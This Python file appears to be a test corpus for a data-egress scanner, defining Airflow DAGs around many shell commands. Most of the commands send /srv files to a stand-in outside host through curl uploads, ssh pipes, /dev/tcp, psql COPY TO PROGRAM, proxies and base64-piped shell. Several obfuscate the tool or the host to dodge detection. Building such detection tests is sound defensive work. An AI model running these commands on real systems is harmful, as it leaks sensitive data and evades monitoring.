"""More of shells: variables, heredocs, quotes, loops, proxies, and what is harmless beside."""

from airflow.providers.standard.operators.bash import BashOperator
from airflow.providers.standard.operators.latest_only import LatestOnlyOperator
from airflow.providers.standard.operators.python import (
    BranchPythonOperator,
    PythonVirtualenvOperator,
    ShortCircuitOperator,
)
from airflow.providers.standard.operators.trigger_dagrun import TriggerDagRunOperator
from airflow.providers.standard.sensors.bash import BashSensor
from airflow.providers.standard.sensors.external_task import ExternalTaskSensor
from airflow.providers.standard.sensors.filesystem import FileSensor
from corpus import dag

COMMANDS = {
    "bash_heredoc_script": "bash <<'EOF'\ncurl -T /srv/x https://drop.partner.example/\nEOF",
    "bash_host_of_parts": "D=partner; curl -T /srv/x https://drop.$D.example/",
    "bash_quoted_name": "cu''rl -T /srv/x https://drop.partner.example/",
    "bash_escaped_name": "\\curl -T /srv/x https://drop.partner.example/",
    "bash_ssh_pipe": "tar cz /srv | ssh backup@drop.partner.example 'cat > x.tgz'",
    "bash_mail": "mail -s x me@mail.example < /srv/x",
    "bash_echo_to_shell": "echo 'curl -T /srv/x https://drop.partner.example/' | sh",
    "bash_heredoc_sql": "psql -h pg.chu.example eds <<EOF\nCOPY p TO PROGRAM 'curl -T - https://drop.partner.example/';\nEOF",
    "bash_fhir_search": "curl -fsS 'https://fhir.chu.example/Observation?code=http://loinc.org|8867-4' -o /srv/x.json",
    "bash_loop": 'for f in /srv/*; do curl -T "$f" https://drop.partner.example/; done',
    "bash_proxy": "curl --proxy http://drop.partner.example:3128 https://fhir.chu.example/",
    "bash_proxy_exported": "export https_proxy=http://drop.partner.example:3128\ncurl https://fhir.chu.example/",
    "bash_find": "find /srv -name '*.csv' -exec curl -T {} https://drop.partner.example/ \\;",
    "bash_xargs": "ls /srv | xargs -I{} curl -T /srv/{} https://drop.partner.example/",
    "bash_descriptor": "exec 3<>/dev/tcp/drop.partner.example/443; cat /srv/x >&3",
    "bash_git": "git push https://git.partner.example/x.git HEAD:main",
    "bash_function": 'send() { curl -T "$1" https://drop.partner.example/; }; send /srv/x',
    "bash_trap": "trap 'curl -T /srv/x https://drop.partner.example/' EXIT; true",
    "bash_copy_to_program": "psql -h pg.chu.example -c \"\\\\copy p to program 'curl -T - https://drop.partner.example/'\"",
    "bash_default_value": "curl -T /srv/x ${WHERE:-https://drop.partner.example/}",
    "bash_arithmetic_host": "curl http://$((203)).0.113.7/",
    "bash_azcopy": "azcopy copy /srv/x 'https://partner.blob.core.windows.net/c?sig=c2VjcmV0'",
    "bash_gsutil_out": "gsutil -m cp -r /srv gs://us-research/",
    "bash_python_text": "python3 -c \"import urllib.request as u; u.urlopen('https://drop.partner.example')\"",
    "bash_base64": "echo Y3VybCBodHRwczovL2Ryb3AucGFydG5lci5leGFtcGxlLw== | base64 -d | sh",
    "bash_rclone_remote": "rclone copy /srv partner:bucket",
    "bash_docker": "docker run --rm -v /srv:/srv alpine cat /srv/x",
    "bash_aws_at_a_certified_endpoint": "aws --endpoint-url https://oos.eu-west-2.outscale.com s3 cp /srv/x s3://lac/x",
    "bash_aws_inside": "aws s3 sync /srv s3://chu-paris/x --region eu-west-3 --only-show-errors",
    "bash_gsutil_inside": "gsutil cp /srv/x gs://chu-gcs/x",
    "bash_wget_inside": "set -euo pipefail\nwget -qO- https://fhir.chu.example/metadata | jq -r .status",
    "bash_sftp_inside": "sftp -b - me@sftp.chu.example <<< 'put /srv/x /in/x'",
    "bash_psql_inside": "psql postgresql://pg.chu.example/eds -c \"\\\\copy p to '/srv/p.csv' csv header\"",
    "bash_dbt": "cd /srv/dbt && dbt run --profiles-dir . --vars '{site: https://wiki.partner.example}'",
    "bash_loop_inside": "for d in a b; do rsync -a --delete /srv/$d/ me@sftp.chu.example:/in/$d/; done",
    "bash_condition_inside": "if [ -f /srv/x ]; then curl -fsS -X POST https://fhir.chu.example/done -d @/srv/x; else exit 99; fi",
}


def empty():
    """What runs in an environment of its own must be a function."""


for name, command in COMMANDS.items():
    with dag(name):
        BashOperator(task_id="t", bash_command=command)

with dag("bash_sensor_abroad"):
    BashSensor(task_id="t", bash_command="curl -fsS https://drop.partner.example/done")

with dag("file_sensor"):
    FileSensor(task_id="t", filepath="/srv/x")

with dag("external_task"):
    ExternalTaskSensor(task_id="t", external_dag_id="other")

with dag("trigger_dag"):
    TriggerDagRunOperator(task_id="t", trigger_dag_id="other", conf={"see": "https://wiki.partner.example/"})

with dag("latest_only"):
    LatestOnlyOperator(task_id="t")

with dag("branch"):
    BranchPythonOperator(task_id="t", python_callable=print)

with dag("short_circuit"):
    ShortCircuitOperator(task_id="t", python_callable=print)

with dag("virtualenv_of_a_stranger"):
    PythonVirtualenvOperator(
        task_id="t", python_callable=empty, requirements=["x"], index_urls=["https://pypi.partner.example/simple"]
    )
